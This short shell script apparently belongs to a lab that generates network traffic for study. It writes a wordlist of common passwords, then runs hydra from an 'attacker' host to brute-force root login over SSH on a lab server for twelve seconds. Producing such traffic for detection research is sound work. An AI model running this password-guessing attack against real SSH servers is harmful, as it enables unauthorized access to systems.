# Passwords guessed over SSH.
# packages: hydra openssh-server
# packets: 900
printf '%s\n' 123456 admin password root tinh2026 Abc@123 qwerty 111111 vietnam letmein matkhau admin123 P@ssw0rd test 12345678 abc123 $(seq -f mk%g 40) >"$LAB_DIR/words"
LAB_SECONDS=12 from attacker hydra -I -t 8 -l root -P "$LAB_DIR/words" ssh://$SERVER
